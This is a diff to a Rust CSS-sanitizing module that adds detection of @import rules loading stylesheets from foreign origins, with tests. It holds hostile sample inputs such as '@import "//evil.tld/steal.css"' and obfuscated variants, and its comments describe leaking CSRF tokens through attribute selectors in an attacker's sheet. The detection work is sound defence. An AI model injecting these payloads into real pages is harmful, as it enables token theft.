@@ -23,6 +23,32 @@ pub fn dangerous(css: &str) -> bool {
 
 /// [`dangerous`] for one reading of the escapes (the CSS tokenizer's).
 fn dangerous_text(css: &str) -> bool {
+    let folded = fold(css);
+    let f = &folded[..];
+    // IE evaluates `expression(…)` only as a property value: prose about "a regular
+    // expression (regex)" folds to the same letters but has no `:` before them; and an
+    // empty `expression()` evaluates nothing ("expression() was removed from IE8")
+    let expression = memchr::memmem::find_iter(f, b"expression(")
+        .take(16)
+        .any(|p| {
+            (p == 0 || matches!(f[p - 1], b':' | b'=' | b'(' | b',' | b'"' | b'\''))
+                && f.get(p + 11) != Some(&b')')
+        });
+    expression
+        || foreign_import(f)
+        || ACTIVE.as_ref().map_or_else(
+            || {
+                ACTIVE_WORDS
+                    .iter()
+                    .any(|w| memchr::memmem::find(f, w).is_some())
+            },
+            |a| a.find(f).is_some(),
+        )
+}
+
+/// The CSS as its tokenizer reads it for the keyword tests: escapes decoded, comments,
+/// blanks and controls dropped, lower case.
+fn fold(css: &str) -> Vec<u8> {
     let decoded = decode_backslashes(css);
     let mut folded: Vec<u8> = Vec::with_capacity(decoded.len());
     let b = decoded.as_bytes();
@@ -49,26 +75,7 @@ fn dangerous_text(css: &str) -> bool {
             i += 1;
         }
     }
-    let f = &folded[..];
-    // IE evaluates `expression(…)` only as a property value: prose about "a regular
-    // expression (regex)" folds to the same letters but has no `:` before them; and an
-    // empty `expression()` evaluates nothing ("expression() was removed from IE8")
-    let expression = memchr::memmem::find_iter(f, b"expression(")
-        .take(16)
-        .any(|p| {
-            (p == 0 || matches!(f[p - 1], b':' | b'=' | b'(' | b',' | b'"' | b'\''))
-                && f.get(p + 11) != Some(&b')')
-        });
-    expression
-        || foreign_import(f)
-        || ACTIVE.as_ref().map_or_else(
-            || {
-                ACTIVE_WORDS
-                    .iter()
-                    .any(|w| memchr::memmem::find(f, w).is_some())
-            },
-            |a| a.find(f).is_some(),
-        )
+    folded
 }
 
 /// Folded CSS that runs script or loads active content wherever it stands: script URLs, an
@@ -104,23 +111,61 @@ fn foreign_import(f: &[u8]) -> bool {
     memchr::memmem::find_iter(f, b"@import")
         .take(MAX_IMPORTS)
         .any(|p| {
-            let mut u = &f[p + 7..];
-            if let Some(r) = u.strip_prefix(b"url(") {
-                u = r;
-            }
-            if let Some(r) = u.strip_prefix(b"\"").or_else(|| u.strip_prefix(b"'")) {
-                u = r;
-            }
-            let end = u
-                .iter()
-                .take(256)
-                .position(|&c| matches!(c, b'"' | b'\'' | b')' | b';'))
-                .unwrap_or(u.len().min(256));
-            let url = &u[..end];
-            url.is_empty()
-                || matches!(url, [b'/', b'/' | b'\\', ..] | [b'\\', ..])
-                || memchr::memchr(b':', url).is_some()
+            let url = import_target(&f[p + 7..]);
+            url.is_empty() || foreign_target(url)
         })
+}
+
+/// `@import "//evil.example/steal.css";`, `@import url(https://x.example/a.css) print`: an
+/// `@import` rule written as CSS writes it (its target a quoted string or `url(…)`) whose
+/// target is another origin or a scheme ([`foreign_import`]'s test). Reflected into a
+/// `<style>` block or a theme's custom CSS, the page loads the attacker's sheet, whose
+/// attribute selectors leak the CSRF token or nonce character by character. [`dangerous`]
+/// reads `@import` only where a `url(` or another CSS word made the value look like CSS;
+/// this reads it on its own, so it asks for the rule's syntax: prose that names the rule
+/// ("use @import in Sass", "@import: deprecated") has no quoted or `url(` target after it,
+/// and the site's own sheet (`@import "theme.css"`, `@import url('/css/site.css')`) is
+/// relative.
+pub fn imports_foreign_sheet(v: &str) -> bool {
+    let v = match v.char_indices().nth(MAX_CSS) {
+        Some((i, _)) => &v[..i],
+        None => v,
+    };
+    let strict = |css: &str| {
+        let f = fold(css);
+        memchr::memmem::find_iter(&f, b"@import")
+            .take(MAX_IMPORTS)
+            .any(|p| {
+                let u = &f[p + 7..];
+                (matches!(u.first(), Some(b'"' | b'\'')) || u.starts_with(b"url("))
+                    && foreign_target(import_target(u))
+            })
+    };
+    strict(v) || (v.contains('\\') && strict(&v.replace('\\', "")))
+}
+
+/// Whether a (folded) import target is on another origin (`//host`, `/\host`, `\host`)
+/// or names a scheme (`https:`, `javascript:`, `data:`).
+fn foreign_target(url: &[u8]) -> bool {
+    matches!(url, [b'/', b'/' | b'\\', ..] | [b'\\', ..]) || memchr::memchr(b':', url).is_some()
+}
+
+/// The target of the `@import` whose folded text after the keyword is `u`: the string or
+/// `url(…)` argument, up to its closing quote, parenthesis or `;` (at most 256 bytes).
+fn import_target(u: &[u8]) -> &[u8] {
+    let mut u = u;
+    if let Some(r) = u.strip_prefix(b"url(") {
+        u = r;
+    }
+    if let Some(r) = u.strip_prefix(b"\"").or_else(|| u.strip_prefix(b"'")) {
+        u = r;
+    }
+    let end = u
+        .iter()
+        .take(256)
+        .position(|&c| matches!(c, b'"' | b'\'' | b')' | b';'))
+        .unwrap_or(u.len().min(256));
+    &u[..end]
 }
 
 /// Longest lone `@import` statement [`relative_import`] reads.
@@ -324,6 +369,29 @@ mod tests {
             "@import",
         ] {
             assert!(!relative_import(v), "{v}");
+        }
+    }
+
+    #[test]
+    fn foreign_sheets_imported_by_the_rule_syntax() {
+        for v in [
+            "@import \"//evil.tld/steal.css\";",
+            "@import url(//evil.tld/x.css)",
+            "@import url( 'https://x.example/a.css' ) print;",
+            "@import/**/\"//x.example/a.css\"",
+            "@imp\\ort '//x.example/a.css'",
+        ] {
+            assert!(imports_foreign_sheet(v), "{v}");
+        }
+        for v in [
+            "@import url('/css/site.css')",
+            "@import \"theme.css\"",
+            "use @import in Sass",
+            "@import: see https://sass-lang.com/d/import",
+            "@import",
+            "@import url()",
+        ] {
+            assert!(!imports_foreign_sheet(v), "{v}");
         }
     }
 
